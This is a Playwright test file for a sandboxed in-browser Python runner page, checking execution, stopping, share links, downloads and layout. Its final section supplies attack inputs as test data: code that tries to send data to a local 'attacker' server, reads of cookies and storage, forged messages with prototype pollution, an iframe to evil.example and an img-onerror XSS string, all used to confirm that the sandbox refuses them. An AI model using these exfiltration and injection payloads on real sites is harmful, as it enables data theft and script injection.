"""`run.html`: any program runs in the page, always ends, and reaches nothing outside its frame."""

import json
import shutil

import pytest
from axe import violations
from links import SCRIPT, deflated, zeros
from playwright.sync_api import expect
from run_page import RunPage, write_site
from screens import DESK, PHONE
from serving import Quiet, blocked, folder_served
from walk_page import Walk

from tools.site import run_page

FACT = "def fact(n):\n    return 1 if n < 2 else n * fact(n - 1)\n\nprint(fact(3))\n"
DEEP = "def f(n):\n    return 0 if n == 0 else 1 + f(n - 1)\n\nprint(f(900))\n"
ENDLESS = "def f(n):\n    return f(n + 1)\n\nf(0)\n"
IN_C = "class A:\n    def __lt__(self, other):\n        return sorted([A(), A()])\n\nsorted([A(), A()])\n"
FOR_EVER = "sum(range(10**12))\n"
NO_WALK = "What Python sent is no walk"
BROKE = "Python itself broke down"


@pytest.fixture(scope="module")
def site(tmp_path_factory, needs_chromium):
    if shutil.which("npm") is None:
        pytest.skip("run.html is built with npm")
    folder = tmp_path_factory.mktemp("site") / "puzzles"
    with pytest.MonkeyPatch.context() as patch:
        write_site(folder, patch)
    return folder


@pytest.fixture(scope="module")
def served(site):
    with folder_served(site.parent) as address:  # under a path, as a project's site is
        yield f"{address}/{site.name}"


@pytest.fixture(scope="module")
def open_run(browser, served):
    """Factory for pages of their own; nothing but the site may be requested, and there are no errors."""
    errors, dialogs, contexts = [], [], []

    def open_run(fragment="", size=DESK, **options):
        context = browser.new_context(viewport=size, **options)
        contexts.append((context, blocked(context, served)))
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        opened = RunPage(page, f"{served}/run.html{fragment}")
        opened.errors = errors
        return opened

    yield open_run
    for context, elsewhere in contexts:
        context.close()
        assert elsewhere == []
    assert errors == []
    assert dialogs == []


@pytest.fixture(scope="module")
def shared(open_run):
    page = open_run()
    page.says("Python is ready")
    return page


# ---- running -------------------------------------------------------------------------------------


def test_a_program_runs_and_the_walk_has_the_keys_at_once(shared):
    shared.write(FACT)
    shared.page.keyboard.press("ControlOrMeta+Enter")
    walk = shared.walk()
    walk.key("ArrowRight", "ArrowRight")
    walk.at(2)
    walk.key("End")
    walk.says("program.py ends")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_have_text("6\n")
    for scheme in ("light", "dark"):
        shared.page.emulate_media(color_scheme=scheme)
        frame = shared.page.frames[-1]
        assert violations(frame) == []


def test_a_changed_program_is_said_to_have_changed(shared):
    shared.run(FACT)
    shared.field.press("End")
    shared.page.keyboard.type("  # more")
    shared.says("changed since it ran")


def test_input_takes_its_answers_from_a_field_that_is_there_when_it_is_needed(shared):
    shared.write(FACT)
    expect(shared.answers).to_be_hidden()
    shared.write("name = input('Who? ')\nprint(name)\n")
    shared.answers.fill("Ada")
    walk = shared.run()
    walk.key("End")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_have_text("Who? Ada\nAda\n")
    shared.run("a = input()\nb = input()\n")
    shared.says("more often than there are answers")


def test_a_syntax_error_is_marked_in_its_place(shared):
    shared.start("x = 1\nif x\n    y = 2\n")
    shared.says("Line 2: expected ':'.")
    expect(shared.frame.locator(".cm-lint-marker-error")).to_have_count(1)
    expect(shared.frame.locator(".cm-lintPoint-error, .cm-lintRange-error")).to_have_count(1)
    expect(shared.field).to_be_focused()
    shared.run(FACT)
    expect(shared.frame.locator(".cm-lint-marker-error")).to_have_count(0)


def test_900_calls_deep_works_and_a_recursion_error_is_part_of_the_walk(shared):
    for program, words in ((DEEP, "program.py ends"), (ENDLESS, "RecursionError")):
        walk = shared.run(program)
        walk.come_to(walk.last)
        walk.says(words)


# ---- it always ends ------------------------------------------------------------------------------


def test_what_cannot_be_stopped_from_inside_is_ended_by_stop(shared):
    shared.start(FOR_EVER)
    shared.button("Stop").click()
    shared.says("Stopped.")
    shared.run(FACT).at(0)


@pytest.mark.slow
def test_what_cannot_be_stopped_from_inside_is_ended_after_15_seconds(shared):
    shared.start(FOR_EVER)
    shared.says("Stopped after 15 seconds")
    shared.run(FACT).at(0)


@pytest.mark.slow
def test_an_endless_loop_is_a_walk_and_a_breakdown_a_sentence(shared):
    walk = shared.run("while True:\n    x = 1\n")
    assert walk.last == 99_999
    walk.come_to(99_999)
    walk.says("too many steps")
    shared.start(IN_C)
    shared.says(BROKE)
    shared.run(FACT).at(0)


# ---- links and files -----------------------------------------------------------------------------


@pytest.mark.slow
def test_a_link_shows_the_program_and_runs_it_at_its_step_only_when_run_is_pressed(open_run):
    first = open_run(permissions=["clipboard-read", "clipboard-write"])
    first.write("n = input()\n")
    first.answers.fill("7")
    walk = first.run("n = input()\nprint(n, n)\n")
    walk.key("ArrowRight")
    first.button("Share as a link").click()
    address = first.frame.get_by_label("Link to this program")
    expect(address).to_be_focused()
    link = address.input_value()
    first.page.reload()  # what is in the field is never lost
    expect(first.field).to_contain_text("print(n, n)")
    second = open_run(f"#{link.partition('#')[2]}")
    second.says("came with the link")
    expect(second.field).to_contain_text("print(n, n)")
    second.page.wait_for_timeout(500)
    expect(second.frame.locator(".puzzle-book")).to_have_count(0)
    second.button("Run and step").click()
    second.walk().at(1)


@pytest.mark.parametrize(
    "fragment",
    [
        "hello",
        SCRIPT,
        "1.",
        "1.AAAA",
        f"2.{deflated('{}')}",
        f"1.{deflated('null')}",
        f"1.{deflated(json.dumps({'program': 3, 'answers': ''}))}",
        "1." + deflated('{"__proto__": {"program": "x"}}'),
        f"1.{zeros(20 * 2**20)}",
        "1." + "A" * 1_000_000,
    ],
    ids=range(10),
)
def test_a_link_that_holds_no_program_says_so(open_run, fragment):
    page = open_run(f"#{fragment}")
    page.says("link" if "<" not in fragment else "link is broken")
    expect(page.field).to_contain_text("fact")
    page.page.context.close()


def test_the_downloaded_walk_opens_from_a_disk_and_is_only_text(shared, browser, tmp_path):
    shared.run(f"text = {SCRIPT!r}\nprint(text)\n")
    with shared.page.expect_download() as saved:
        shared.button("Download").click()
    assert saved.value.suggested_filename == "program.html"
    saved.value.save_as(tmp_path / "program.html")
    page = browser.new_page()
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    page.goto(f"file://{tmp_path}/program.html")
    walk = Walk(page)
    walk.key("End")
    walk.says("program.py ends")
    expect(walk.root.get_by_role("group", name="Printed so far")).to_contain_text("onerror")
    assert page.locator("img").count() == 0
    page.close()


@pytest.mark.slow
def test_one_file_opens_from_a_disk(browser, site):
    page = RunPage(browser.new_page(), f"file://{site}/{run_page.ALONE}")
    page.run(FACT).at(0)
    page.page.close()


def test_on_a_phone_the_field_is_above_the_walk_and_nothing_is_wider_than_the_page(open_run):
    page = open_run(size=PHONE, has_touch=True)
    walk = page.run(f"{FACT}x = {'1' * 200!r}\n")
    field, book = page.field.bounding_box(), walk.root.bounding_box()
    assert field["y"] + field["height"] <= book["y"] or field["y"] < book["y"]
    for frame in page.page.frames:
        wide = "() => document.documentElement.scrollWidth - document.documentElement.clientWidth"
        assert frame.evaluate(wide) <= 0


# ---- attacks -------------------------------------------------------------------------------------

# what a program tries in its worker, where it can use JavaScript through Pyodide
REQUESTS = """
import js, urllib.request
from pyodide.ffi import create_proxy
def xhr(url):
    one = js.XMLHttpRequest.new()
    one.open("GET", url, False)
    one.send()
tries = [
    js.fetch, xhr, js.EventSource.new, js.importScripts, js.Worker.new, urllib.request.urlopen,
    lambda url: js.WebSocket.new(url.replace("http", "ws")),
    lambda url: js.eval(f"import('{url}')"),
    lambda url: js.Function.new(f"return import('{url}')")(),
    lambda url: js.Worker.new(js.URL.createObjectURL(js.Blob.new([f"fetch('{url}'); importScripts('{url}')"]))),
    lambda url: js.indexedDB.open("x"), lambda url: js.caches.open("x"),
    lambda url: js.navigator.storage.getDirectory(),
]
done = 0
for one in tries:
    for url in URLS:
        try:
            one(url)
            done += 1
        except BaseException as error:
            pass
"""
FORGED = [
    'js.postMessage(\'{"kind":"walk"}\')',
    'js.postMessage(\'{"kind":"walk","cover":{"__proto__":{"polluted":1}},"first":{}}\')',
    'js.postMessage(\'{"kind":"syntax","words":{"toString":3},"from":"x"}\')',
    "js.postMessage(js.Object.new())",
    'js.postMessage("3")',
    'js.postMessage(\'{"kind":"walk","x":"\' + \'a\' * 60_000_000 + \'"}\')',
    '[js.postMessage(\'{"kind":"chunk"}\') for _ in range(50_000)]',
    "json.dumps = lambda *a, **k: '3'",
    "json.dumps = lambda *a, **k: 3",
    "json.loads = lambda *a, **k: 3",
    "js.postMessage(json.dumps(forged(boards=['<iframe src=https://evil.example>'])))",
    "js.postMessage(json.dumps(forged(pages=[[0, 0, 0, 0, [7], 0, 0, [], 0, 0, 0]])))",
    "js.postMessage(json.dumps(forged(texts=[['<img src=x onerror=alert(1)>']] * 9)))",
]
FORGE = """
import js, json
def forged(**changed):
    cover = {"name": "x", "last": 0, "until": 0, "events": "c", "depths": [1], "first": [0], "ends": [0]}
    cover |= {"parents": [-1], "widest": 9, "levels": 9, "rows": 9, "yields": [], "prints": True}
    names = ("pages", "calls", "results", "texts", "sources", "cards", "moves", "boards")
    first = {"first": 0, "callsFrom": 0, "endsFrom": 0} | {name: [] for name in names} | changed
    return {"kind": "walk", "cover": cover, "first": first, "show": ["board", "source"], "note": ""}
"""


class Heard(Quiet):
    """A server of the attacker: each request that arrives is noted."""

    arrived = []  # noqa: RUF012

    def do_GET(self):
        self.arrived.append(self.path)
        self.send_error(404)


def test_a_program_reaches_neither_another_server_nor_the_site_nor_a_storage(shared, served, site):
    with folder_served(site, Heard) as evil:
        walk = shared.run(f"URLS = [{evil!r} + '/?stolen', {served + '/run.html'!r}]\n{REQUESTS}")
        walk.come_to(walk.last)
        walk.says("program.py ends")
        shared.page.wait_for_timeout(500)
        assert Heard.arrived == []
        frame = shared.page.frames[-1]
        tries = """async (url) => {
            const refused = [];
            for (const act of [
                () => fetch(url), () => { top.location = url }, () => localStorage.x, () => indexedDB.open('x'),
                () => document.cookie, () => parent.document, () => open(url).document,
            ]) try { await act(); refused.push(false) } catch { refused.push(true) }
            new Image().src = url;
            navigator.sendBeacon(url);
            return refused;
        }"""
        assert frame.evaluate(tries, evil) == [True] * 7
        assert Heard.arrived == []
    shared.errors.clear()  # of what was refused in the worker
    assert shared.page.locator("#run-frame").get_attribute("sandbox") == "allow-scripts"
    assert shared.page.evaluate("() => frames.length") == 1


def test_the_frame_cannot_be_led_elsewhere(open_run, site):
    page = open_run()
    with folder_served(site, Heard) as evil:
        page.page.frames[-1].evaluate("(url) => { location = url }", evil)
        page.page.wait_for_timeout(500)
    assert Heard.arrived == []
    page.page.context.close()


@pytest.mark.slow
def test_forged_messages_change_nothing_outside_the_walk(shared):
    for line in FORGED:
        shared.start(f"{FORGE}\n{line}\n")
        expect(shared.button("Run and step")).to_be_visible(timeout=30_000)
        for frame in shared.page.frames:
            assert frame.evaluate("() => ({}).polluted ?? null") is None
        assert shared.frame.locator("#book :is(img, iframe, script)").count() == 0
    walk = shared.run(FACT)
    walk.key("End")
    walk.says("program.py ends")
    shared.errors.clear()  # of walks that cannot be drawn


def test_the_page_listens_to_its_frame_alone_and_does_only_what_it_knows(open_run):
    page = open_run()
    page.page.evaluate("""() => { postMessage({ kind: 'fragment', text: '1.own' }, '*') }""")
    page.page.frames[-1].evaluate(
        """() => {
            for (const kind of ['constructor', '__proto__', 'toString', 'fragment', 'file'])
                for (const text of ['javascript:alert(1)', 3, null, '<a>'])
                    parent.postMessage({ kind, text }, '*');
            parent.postMessage(null, '*');
        }"""
    )
    page.page.wait_for_timeout(300)
    assert "#" not in page.page.url
    page.page.context.close()
